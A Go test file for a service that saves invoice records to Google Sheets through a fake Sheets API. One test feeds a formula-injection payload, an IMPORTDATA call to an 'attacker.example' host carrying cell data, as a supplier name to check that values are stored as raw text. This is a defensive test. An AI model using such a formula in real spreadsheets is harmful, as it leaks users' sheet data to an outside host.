package sheets

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"
	"google.golang.org/api/sheets/v4"

	"intake/pkg/models"
	"intake/pkg/services"
)

func TestExtractSpreadsheetID(t *testing.T) {
	id, err := extractSpreadsheetID("https://docs.google.com/spreadsheets/d/1AbC-dEf_123/edit#gid=0")
	require.NoError(t, err)
	assert.Equal(t, "1AbC-dEf_123", id)

	_, err = extractSpreadsheetID("https://example.com/not-a-sheet")
	assert.Error(t, err)
}

func TestEntryToValues(t *testing.T) {
	amount := 99.9
	entry := services.InvoiceEntry{
		ID:         "entry-1",
		Record:     models.InvoiceRecord{Supplier: "Acme Corp", Date: "2024-03-12", TotalAmount: &amount, Currency: "EUR"},
		Sender:     "34600111222",
		MessageID:  "wamid.1",
		MediaID:    "media-1",
		ReceivedAt: time.Date(2024, 3, 12, 9, 30, 0, 0, time.UTC),
	}

	values := entryToValues(entry)
	require.Len(t, values, len(headers))
	assert.Equal(t, []interface{}{
		"entry-1", "2024-03-12T09:30:00Z", "34600111222", "wamid.1", "media-1",
		"Acme Corp", "2024-03-12", 99.9, "EUR",
	}, values)

	entry.Record.TotalAmount = nil
	assert.Equal(t, "", entryToValues(entry)[7])
}

// fakeSheetsAPI serves just enough of the Sheets REST API for Save.
type fakeSheetsAPI struct {
	mu           sync.Mutex
	appended     [][]interface{}
	appendOption []string
	headers      [][]interface{}
	requests     []string
}

func (f *fakeSheetsAPI) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	path := r.URL.Path
	f.requests = append(f.requests, r.Method+" "+path)

	var body sheets.ValueRange
	if r.Body != nil {
		data, _ := io.ReadAll(r.Body)
		_ = json.Unmarshal(data, &body)
	}

	w.Header().Set("Content-Type", "application/json")
	switch {
	case strings.HasSuffix(path, ":append"):
		f.appended = append(f.appended, body.Values...)
		f.appendOption = append(f.appendOption, r.URL.Query().Get("valueInputOption"))
		_ = json.NewEncoder(w).Encode(sheets.AppendValuesResponse{})
	case strings.Contains(path, "/values/") && r.Method == http.MethodPut:
		f.headers = body.Values
		_ = json.NewEncoder(w).Encode(sheets.UpdateValuesResponse{})
	case strings.Contains(path, "/values/"):
		_ = json.NewEncoder(w).Encode(sheets.ValueRange{Values: f.headers})
	case strings.HasSuffix(path, ":batchUpdate"):
		_ = json.NewEncoder(w).Encode(sheets.BatchUpdateSpreadsheetResponse{})
	default:
		_ = json.NewEncoder(w).Encode(sheets.Spreadsheet{
			Sheets: []*sheets.Sheet{{Properties: &sheets.SheetProperties{Title: "Invoices", SheetId: 7}}},
		})
	}
}

func TestService_Save(t *testing.T) {
	api := &fakeSheetsAPI{}
	server := httptest.NewServer(api)
	defer server.Close()

	ctx := context.Background()
	sheetsService, err := sheets.NewService(ctx,
		option.WithEndpoint(server.URL+"/"),
		option.WithHTTPClient(server.Client()),
	)
	require.NoError(t, err)

	service := &Service{
		sheetsService: sheetsService,
		spreadsheetID: "sheet-123",
		worksheet:     "Invoices",
		log:           zerolog.Nop(),
	}

	amount := 10.5
	entry := services.NewInvoiceEntry(models.InvoiceRecord{Supplier: "Acme Corp", TotalAmount: &amount}, "1", "m1", "media", time.Now())
	require.NoError(t, service.Save(ctx, entry))
	require.NoError(t, service.Save(ctx, entry))

	api.mu.Lock()
	defer api.mu.Unlock()

	require.Len(t, api.appended, 2)
	assert.Equal(t, entry.ID, api.appended[0][0])
	assert.Equal(t, "Acme Corp", api.appended[0][5])

	require.Len(t, api.headers, 1)
	assert.Equal(t, "ID", api.headers[0][0])

	// The spreadsheet is only inspected before the first append
	var gets int
	for _, req := range api.requests {
		if req == "GET /v4/spreadsheets/sheet-123" {
			gets++
		}
	}
	assert.Equal(t, 1, gets)
}

func TestService_Save_KeepsTextLiteral(t *testing.T) {
	api := &fakeSheetsAPI{}
	server := httptest.NewServer(api)
	defer server.Close()

	ctx := context.Background()
	sheetsService, err := sheets.NewService(ctx,
		option.WithEndpoint(server.URL+"/"),
		option.WithHTTPClient(server.Client()),
	)
	require.NoError(t, err)

	service := &Service{
		sheetsService: sheetsService,
		spreadsheetID: "sheet-123",
		worksheet:     "Invoices",
		log:           zerolog.Nop(),
	}

	amount := 12.5
	formula := `=IMPORTDATA("https://attacker.example/?"&A1)`
	entry := services.NewInvoiceEntry(models.InvoiceRecord{
		Supplier:    formula,
		Date:        "03/04/2024",
		TotalAmount: &amount,
	}, "1", "m1", "media", time.Now())
	require.NoError(t, service.Save(ctx, entry))

	api.mu.Lock()
	defer api.mu.Unlock()

	assert.Equal(t, []string{"RAW"}, api.appendOption)
	require.Len(t, api.appended, 1)
	assert.Equal(t, formula, api.appended[0][5])
	assert.Equal(t, "03/04/2024", api.appended[0][6])
	assert.Equal(t, 12.5, api.appended[0][7])
}
